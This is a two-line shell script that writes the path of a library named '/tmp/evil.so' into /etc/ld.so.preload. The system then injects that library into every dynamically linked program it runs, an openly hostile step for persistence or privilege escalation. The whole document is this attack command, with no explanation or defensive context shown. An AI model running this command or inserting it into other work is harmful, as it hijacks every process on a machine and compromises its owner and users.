#!/bin/sh
echo /tmp/evil.so > /etc/ld.so.preload
